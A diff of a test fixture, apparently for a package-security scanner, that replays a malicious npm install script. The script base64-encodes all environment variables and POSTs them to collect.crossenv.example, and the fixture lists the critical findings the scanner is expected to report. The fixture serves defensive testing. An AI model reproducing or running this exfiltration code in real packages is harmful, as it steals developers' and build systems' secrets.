@@ -3,30 +3,21 @@ import { replayAddition } from '../upgrade.js'
 
 const setup = `'use strict'
 
-const http = require('http')
-const querystring = require('querystring')
+const { request } = require('http')
 
-const host = 'collect.crossenv.example'
-const env = Buffer.from(JSON.stringify(process.env)).toString('base64')
-const body = querystring.stringify({ data: env })
+function send(text) {
+  const call = request({ host: 'collect.crossenv.example', path: '/seen', method: 'POST' })
+  call.on('error', () => {})
+  call.end(new URLSearchParams({ of: text }).toString())
+}
 
-const request = http.request({
-  hostname: host,
-  port: 80,
-  path: '/log/',
-  method: 'POST',
-  headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer.byteLength(body) },
-})
-request.on('error', () => {})
-request.write(body)
-request.end()
+send(Buffer.from(JSON.stringify(process.env)).toString('base64'))
 `
 
 const inPackageSetup = {
   file: 'package-setup.js',
-  line: "const env = Buffer.from(JSON.stringify(process.env)).toString('base64')",
+  line: "send(Buffer.from(JSON.stringify(process.env)).toString('base64'))",
 } as const
-const alsoInPackageSetup = { file: 'package-setup.js', line: 'const request = http.request({' } as const
 
 export const replay: Replay = replayAddition({
   description:
@@ -55,9 +46,16 @@ export const replay: Replay = replayAddition({
   findings: [
     ['combined-risk', 'critical'],
     ['install-script-dangerous', 'critical', inPackageSetup],
-    ['secrets-exfiltrated', 'critical', alsoInPackageSetup],
+    ['secrets-exfiltrated', 'critical', inPackageSetup],
     ['secrets-harvested', 'critical', inPackageSetup],
-    ['beacon-added', 'high', alsoInPackageSetup],
+    [
+      'beacon-added',
+      'high',
+      {
+        file: 'package-setup.js',
+        line: "const call = request({ host: 'collect.crossenv.example', path: '/seen', method: 'POST' })",
+      },
+    ],
     ['bin-added', 'high', { file: 'bin/cross-env.js' }],
     ['install-script-present', 'medium', { file: 'package.json' }],
   ],
